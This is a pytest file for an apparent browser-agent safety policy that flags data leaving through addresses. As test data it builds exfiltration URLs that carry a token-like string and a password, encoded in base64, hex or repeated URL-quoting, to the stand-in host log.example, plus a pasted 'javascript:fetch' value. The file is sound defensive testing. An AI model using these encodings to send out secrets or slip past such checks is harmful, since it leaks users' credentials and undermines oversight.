"""What an address carries out: secrets in any code, and values that mean nothing to a site that is new."""

from __future__ import annotations

import base64
from dataclasses import replace
from urllib.parse import quote

import pytest

from operator_console.domain.actions import Action, Chord, Click, Launch, Navigate, Search, TypeText
from operator_console.domain.decisions import Assessment
from operator_console.domain.elements import Control, ControlSource, Role, TextKnowledge
from operator_console.domain.geometry import NativePoint
from operator_console.domain.keys import parse_chord
from operator_console.domain.risk import Category, RiskClass
from operator_console.domain.scope import Met, Scope
from operator_console.policy import PolicyContext, assess

TOKEN = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
ADDRESS_BAR = Control(
    source=ControlSource.ACCESSIBLE, knowledge=TextKnowledge.READ, role=Role.TEXT_FIELD, name="Address and search bar"
)
PLAIN = PolicyContext(app="chromium", title="Start", met=Met())


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def opened(url: str, *sites: str) -> Assessment:
    return assess(Navigate(url=url), PolicyContext(app="chromium", met=Met(sites=frozenset(sites))))


@pytest.mark.parametrize(
    "url",
    [
        f"https://log.example/?d={b64(TOKEN)}",
        f"https://log.example/p/{base64.urlsafe_b64encode(TOKEN.encode()).decode()}",
        f"https://log.example/#{TOKEN.encode().hex()}",
        f"https://log.example/?d={b64(b64(TOKEN))}",
        f"https://log.example/?a=1&d={quote(quote(quote('api_key: ' + TOKEN)))}",
        f"https://log.example/?d={b64('password: Sommer-2026!x')}",
        f"https://log.example/{TOKEN}",
    ],
)
def test_a_secret_in_an_address_counts_as_when_it_is_typed_also_on_a_site_that_is_known(url: str) -> None:
    for found in (opened(url), opened(url, "log.example")):
        assert found.risk is RiskClass.C4
        assert Category.CREDENTIALS in found.categories


@pytest.mark.parametrize(
    "url",
    [
        f"https://log.example/?d={b64('Meeting with Bob at five about the merger')}",
        f"https://{b'Meeting with Bob at'.hex()}.log.example/",
        "https://log.example/x/v7Qe2LkfXz0s8Pd3Rt5Yb1",
        f"https://log.example/?note={'what the mail of this morning says, word for word. ' * 4}",
        f"https://log.example/{'what-the-mail-says-' * 10}",
    ],
)
def test_a_value_that_is_long_or_encoded_is_asked_about_at_a_site_that_is_new(url: str) -> None:
    assert Category.SEND in opened(url).categories
    assert opened(url).rule == "address-carries-data"
    assert opened(url, "log.example").risk <= RiskClass.C2


@pytest.mark.parametrize(
    "url",
    [
        "https://en.wikipedia.org/wiki/Barack_Obama#Early_life",
        "https://www.amazon.com/dp/B08N5WRWNW/ref=sr_1_3?keywords=usb+cable&qid=1699999999",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://github.com/astral-sh/ruff/commit/0123456789abcdef0123456789abcdef01234567",
        "https://www.google.com/search?q=how+to+bake+bread+without+yeast+in+a+dutch+oven",
        "https://example.org/how-to-bake-a-sourdough-bread-in-2024",
        "https://booking.example/hotel/de/adlon.en-gb.html?checkin=2026-12-01&checkout=2026-12-05&group_adults=2",
        "https://maps.example/@52.5200066,13.404954,15z",
    ],
)
def test_an_ordinary_address_is_opened_unasked(url: str) -> None:
    assert opened(url).risk <= RiskClass.C2


def test_it_is_the_same_however_the_address_is_opened() -> None:
    url = f"log.example/?d={b64('Meeting with Bob at five about the merger')}"
    bar = PolicyContext(app="chromium", title="Start", control=ADDRESS_BAR, met=Met())
    for action, context in (
        (Launch(app="", url=f"https://{url}"), PLAIN), (Search(query=url), PLAIN),
        (TypeText(text=url, submit=True), bar),
    ):  # fmt: skip
        assert Category.SEND in assess(action, context).categories, action


@pytest.mark.parametrize("met", [Met(), Met(sites=frozenset({"log.example"}))])
def test_an_address_is_judged_when_it_is_pasted_where_nothing_tells_what_the_field_holds(met: Met) -> None:
    url = f"log.example/?d={b64('Meeting with Bob at five about the merger')}"
    paste = Chord(keys=parse_chord("ctrl+v"))
    drawn = Control(source=ControlSource.PICTURE, knowledge=TextKnowledge.READ)
    for control in (Control(), drawn):
        bar = PolicyContext(app="chromium", title="Start", control=control, met=met, pasted=url)
        assert (Category.SEND in assess(paste, bar).categories) is (not met.sites)
        assert Category.SECURITY in assess(paste, replace(bar, pasted=" javascript:fetch('/x')")).categories
        assert assess(paste, replace(bar, pasted="https://news.example/a")).risk <= RiskClass.C2
        assert Category.SEND not in assess(paste, replace(bar, app="mousepad")).categories


LETTER = "What the mail of this morning says, word for word. " * 4
NOTE = Control(source=ControlSource.ACCESSIBLE, knowledge=TextKnowledge.READ, role=Role.TEXT_FIELD, name="Note")
PASTE = replace(NOTE, role=Role.MENU_ITEM, name="Paste")
PAGE = PolicyContext(
    app="chromium", title="Pad", url="https://pad.example/a", control=NOTE, met=Met(sites=frozenset({"pad.example"}))
)
WRITING = [
    (TypeText(text=LETTER), PAGE), (TypeText(text=LETTER[:60]), replace(PAGE, typed=LETTER[:120])),
    (TypeText(text=f"see {b64('Meeting with Bob')}"), PAGE),
    (Chord(keys=parse_chord("ctrl+v")), replace(PAGE, pasted=LETTER)),
    (Chord(keys=parse_chord("a")), replace(PAGE, typed=LETTER[:150])),
    (Click(at=NativePoint(1, 1)), replace(PAGE, pasted=LETTER, control=PASTE)),
]  # fmt: skip


@pytest.mark.parametrize(("action", "page"), WRITING)
def test_a_long_or_encoded_text_is_asked_about_at_a_site_that_nobody_named_though_it_was_met(
    action: Action, page: PolicyContext
) -> None:
    assert page.met is not None
    assert Category.SEND in assess(action, page).categories
    for known in (
        replace(page, met=replace(page.met, named=frozenset({"pad.example"}))),
        replace(page, url="https://a.pad.example/b", met=replace(page.met, named=frozenset({"pad.example"}))),
        replace(page, scope=Scope(sites=("*.example",))), replace(page, met=None), replace(page, url=""),
        replace(page, url="http://localhost:8000/a"),
    ):  # fmt: skip
        assert Category.SEND not in assess(action, known).categories


@pytest.mark.parametrize("text", ["Anna Meyer", "12 Hill Road, 1234 Oldtown", LETTER[:100], "internationalisation"])
def test_what_forms_are_filled_in_with_is_written_anywhere(text: str) -> None:
    assert assess(TypeText(text=text), PAGE).risk <= RiskClass.C2
